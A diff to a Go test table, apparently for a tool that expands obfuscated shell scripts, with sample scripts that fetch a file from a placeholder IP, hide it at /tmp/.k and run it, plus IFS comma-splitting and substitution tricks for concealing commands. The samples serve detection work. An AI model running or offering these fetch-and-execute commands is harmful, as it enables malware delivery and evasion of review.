@@ -21,6 +21,9 @@ func TestResolve_shows(t *testing.T) {
 		"copied-as-it-is":    {"cp /usr/bin/curl /opt/bin/curl; cd1 -s x\n", "", "curl -s"},
 		"substitution":       {"u=http://203.0.113.9/i\nc='curl -fsS'\nsh -c \"$($c $u)\"\n", "$(curl -fsS http://203.0.113.9/i)\n", ""},
 		"nothing-to-fill-in": {"curl -s http://203.0.113.9/k -o /tmp/k\nchmod +x /tmp/k\n", "", "curl"},
+		"split-by-a-comma":   {"c='curl,-s,http://203.0.113.9/k,-o,/tmp/.k'; IFS=,; $c; chmod 755 /tmp/.k\n", "curl -s http://203.0.113.9/k -o /tmp/.k\nchmod 755 /tmp/.k\n", ""},
+		"read-by-a-comma":    {"IFS=, read -r a b < /x; u=a,b; curl -s $u\n", "curl -s a,b\n", ""},
+		"told-what-to-do":    {"nslookup $h | sh -c 'cat'\n", "", "sh -\n"},
 		"function":           {"get() { curl -s \"$1\" -o \"$2\"; }\nget http://203.0.113.9/k /tmp/.k\n/tmp/.k\n", "curl -s http://203.0.113.9/k -o /tmp/.k\n/tmp/.k\n", ""},
 	} {
 		t.Run(name, func(t *testing.T) {
